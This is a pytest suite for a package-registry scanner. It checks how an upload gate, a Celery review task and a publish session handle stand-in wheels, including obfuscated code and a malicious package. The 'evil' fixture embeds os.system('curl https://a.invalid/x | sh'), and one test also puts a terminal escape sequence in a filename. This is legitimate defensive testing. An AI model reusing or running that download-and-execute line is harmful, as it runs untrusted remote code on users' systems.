"""Each seat beside a stand-in of its host: an upload request, a task queue, an upload session."""

from __future__ import annotations

import json
import threading

import msgspec
import pytest
from celery import Celery

from pratique.embed import Inline, conclude, inline_reviewer, make_examiner, make_task, observation, opinion
from pratique.embed.inline import LARGEST
from pratique.errors import PratiqueError
from pratique.pipeline import review
from standin.registry import wheel

QUIET = wheel("acme", "1.0", {"acme/__init__.py": b"VALUE = 1\n"})
LOUD = wheel("evil", "1.0", {"evil/__init__.py": b"import os\nos.system('curl https://a.invalid/x | sh')\n"})
PROTECTED = wheel("shy", "1.0", {"shy.py": b"from pytransform import pyarmor_runtime\npyarmor_runtime()\n"})


def examine(filename, data):
    return review(data, filename=filename)


def at(level):
    """Return what reviews, and puts whatever is not clear at this level: these tests are not about the rules'."""

    def examined(filename, data):
        found = review(data, filename=filename)
        verdict = msgspec.structs.replace(found.verdict, level=level)
        return found if found.verdict.level == "clear" else msgspec.structs.replace(found, verdict=verdict)

    return examined


class Request:
    """A registry's upload view, as far as we are concerned: 200, or 400 with a sentence."""

    def __init__(self, inline):
        self._inline = inline

    def upload(self, filename, data):
        answer = self._inline.check(filename, data)
        return (200, "") if answer.allowed else (400, answer.sentence)


@pytest.fixture
def counted():
    return []


def test_inline_refuses_what_policy_forbids_in_one_sentence(counted):
    with Inline(examine, counted.append, seconds=60) as inline:
        view = Request(inline)
        status, text = view.upload(*PROTECTED)
        again = view.upload(*PROTECTED)

        assert (status, text) == again
        assert status == 400
        assert text == "shy-1.0-py3-none-any.whl ships code that is protected against reading (shy.py:2)."
        assert view.upload(*QUIET) == (200, "")
    assert counted == ["refused", "refused", "passed"]


def test_inline_leaves_malware_to_others(counted):
    """A guess must not stop an upload: policy alone does."""
    with Inline(examine, counted.append, seconds=60) as inline:
        assert Request(inline).upload(*LOUD) == (200, "")
    assert counted == ["passed"]


def test_inline_lets_through_what_it_cannot_judge_in_time(counted):
    """Too large, too slow, while busy, or broken: open, and counted."""
    gate = threading.Event()

    def slow(filename, data):
        gate.wait(30)
        raise PratiqueError("broken")

    with Inline(slow, counted.append, seconds=0.01) as inline:
        assert inline.check("acme-1.0-py3-none-any.whl", bytes(LARGEST + 1)).allowed
        assert inline.check(*PROTECTED).allowed
        assert inline.check(*PROTECTED).allowed
        gate.set()
    with Inline(slow, counted.append, seconds=30) as inline:
        assert inline.check(*PROTECTED).allowed
    assert counted == ["large", "slow", "busy", "failed"]


def test_inline_reads_in_a_child_of_its_own(counted):
    with inline_reviewer(30) as reviewer, Inline(make_examiner(reviewer), counted.append, seconds=60) as inline:
        assert not inline.check(*PROTECTED).allowed
    assert counted == ["refused"]


class Files:
    """A registry's files and observations."""

    def __init__(self, **files):
        self.files, self.observed, self.broken = files, {}, 0

    def file(self, number):
        if self.broken:
            self.broken -= 1
            raise ConnectionError("the database went away")
        return self.files.get(number)

    def observe(self, number, found):
        self.observed[number] = found


@pytest.fixture
def app():
    made = Celery("host", set_as_current=False)
    made.conf.update(task_always_eager=True, task_eager_propagates=True)
    return made


def test_a_task_observes_what_a_person_should_see(app):
    host = Files(a=QUIET, b=LOUD)
    task = make_task(app, host, at("look"))

    assert [task.delay(number).get() for number in ("a", "b", "b", "c")] == ["clear", "look", "look", "gone"]
    assert list(host.observed) == ["b"]
    found = host.observed["b"]
    assert found.kind == "is_malware"
    assert "evil/__init__.py:2" in found.summary
    assert json.loads(found.payload)["targets"][0]["verdict"]["level"] == "look"


def test_a_task_tries_again_when_its_host_fails(app):
    host = Files(a=LOUD)
    host.broken = 2
    app.conf.task_eager_propagates = False
    task = make_task(app, host, at("look"))

    assert task.apply(("a",)).get() == "look"
    assert list(host.observed) == ["a"]


def test_a_session_is_published_or_held_as_a_whole():
    assert conclude(dict([QUIET]), examine).status == "published"
    beside = conclude(dict([QUIET, LOUD]), at("look"))
    held = conclude(dict([QUIET, LOUD]), at("block"))

    assert (beside.status, beside.notices, beside.look) == ("published", (), ("evil-1.0-py3-none-any.whl",))
    assert held.status == "error"
    assert [one.filename for one in held.notices] == ["evil-1.0-py3-none-any.whl"]


def test_names_in_a_sentence_are_escaped():
    files = {"evil/a\x1b[2J.py": b"import os\nos.system('curl https://a.invalid/x | sh')\n"}
    found = opinion(review(wheel("evil", "1.0", files | {"evil/__init__.py": b"import evil.a\n"})[1], filename="e.whl"))

    assert "\x1b" not in found.sentence


def test_what_could_not_be_read_is_said():
    whole = review(b"PK\x03\x04 no zip", filename="acme-1.0-py3-none-any.whl")

    found = observation(whole)
    assert found is not None
    assert found.summary
